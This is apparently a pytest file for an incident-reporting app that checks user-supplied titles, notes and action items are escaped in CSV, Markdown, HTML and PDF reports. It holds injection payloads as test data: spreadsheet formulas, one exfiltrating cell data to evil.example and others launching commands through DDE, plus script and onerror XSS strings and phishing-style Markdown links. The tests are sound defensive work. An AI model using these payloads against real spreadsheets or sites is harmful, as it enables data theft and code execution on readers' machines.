"""Reports cannot be turned against their readers: a title or note that is a spreadsheet formula stays text
in every CSV, and one that is HTML or a Markdown link stays text in the Markdown, HTML and PDF reports."""

import csv
import io
import re

import pytest

from incidents.models import Incident
from reporting import renderers, selectors, services
from reporting.choices import ReportKind
from reporting.models import ActionItem, MajorIncidentReview
from reporting.periods import parse_week
from tests.factories import ServiceFactory

from .stories import at, story, t

pytestmark = pytest.mark.django_db

WEEK = parse_week("2026-W44")  # 26 October to 2 November 2026
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]
SCRIPT = "<script>alert('x')</script>"
LINK = "[Details](http://evil.example/login) ![](http://evil.example/pixel.png)"
LINK_SYNTAX = re.compile(r"(?<!\\)\]\(")  # "](" not escaped: a Markdown link or image


@pytest.fixture
def weekly(manager):
    """This week's incidents, with the titles users gave them (stored directly, as legacy rows)."""
    service = ServiceFactory(slug="web", name=f"Web {SCRIPT}")
    titles = [*FORMULAS, f"Portal down {SCRIPT}", f"See {LINK}"]
    for hour, title in enumerate(titles, start=8):
        incident = story(manager, service=service, severity="S3", created=t(10, 27, hour))
        Incident.objects.filter(pk=incident.pk).update(title=title)
    with at(t(11, 2, 12)):
        return selectors.weekly_summary(week=WEEK)


def test_weekly_csv_titles_cannot_run_as_formulas(weekly):
    text = renderers.render(ReportKind.WEEKLY_SUMMARY, weekly, "csv").decode()
    titles = [row["title"] for row in csv.DictReader(io.StringIO(text))]
    for formula in FORMULAS:
        assert "'" + formula in titles
    assert not any(title.startswith(("=", "+", "-", "@", "\t", "\r")) for title in titles)


def test_markdown_shows_html_and_links_as_text(weekly):
    markdown = renderers.render(ReportKind.WEEKLY_SUMMARY, weekly, "md").decode()
    assert "<script>" not in markdown and "&lt;script&gt;" in markdown
    assert not LINK_SYNTAX.search(markdown) and "\\[Details\\]" in markdown and "!\\[\\]" in markdown
    # Every table row still has its eleven cell borders: a "|" in user text cannot add a column.
    rows = [line for line in markdown.splitlines() if line.startswith("| INC-")]
    assert len(rows) == len(FORMULAS) + 2
    assert all(line.replace("\\|", "").count("|") == 11 for line in rows)


def test_html_and_pdf_escape_user_text(weekly):
    html = renderers.render(ReportKind.WEEKLY_SUMMARY, weekly, "html").decode()
    assert SCRIPT not in html and "&lt;script&gt;" in html
    pdf_html = renderers.weekly_summary_html(weekly, for_pdf=True)  # what the PDF backend is given
    assert SCRIPT not in pdf_html and "&lt;script&gt;" in pdf_html


@pytest.fixture
def review(manager):
    service = ServiceFactory(slug="ceph", name=f"Ceph {SCRIPT}")
    major = story(
        manager,
        service=service,
        severity="S1",
        title="Ceph cluster down",
        created=t(10, 3, 10),
        steps=(("investigate", t(10, 3, 10, 10)), ("resolve", t(10, 3, 12)), ("close", t(10, 4, 9))),
    )
    Incident.objects.filter(pk=major.pk).update(title=f"=cmd {SCRIPT}")
    major.refresh_from_db()
    review = MajorIncidentReview.objects.get(incident=major)
    review.root_cause = f"Disk firmware.\n{LINK}\n<img src=x onerror=alert(1)>"
    review.save()
    ActionItem.objects.create(review=review, description=f'=HYPERLINK("x") {LINK}')
    return major


def test_review_markdown_escapes_titles_notes_and_action_items(review):
    markdown = services.major_incident_review_report(incident=review, fmt="md", store=False).content.decode()
    assert "<script>" not in markdown and "<img" not in markdown
    assert not LINK_SYNTAX.search(markdown)
    assert "# Major-incident review" in markdown and "&lt;script&gt;" in markdown.splitlines()[0]
    assert "Service Ceph &lt;script&gt;" in markdown
    assert "&lt;img src=x onerror=alert(1)&gt;" in markdown


def test_review_csv_and_html(review):
    html = services.major_incident_review_report(incident=review, fmt="html", store=False).content.decode()
    assert SCRIPT not in html and "<img src=x" not in html
    text = services.major_incident_review_report(incident=review, fmt="csv", store=False).content.decode()
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_numbers_stay_numbers():
    """Negative numbers are numbers, not formulas: written as they are."""
    text = renderers._csv([["kpi", "value", "label"], ["delta", -5, "-5"], ["ratio", -0.25, "-2+3"]])
    assert text.splitlines()[1:] == ["delta,-5,-5", "ratio,-0.25,'-2+3"]
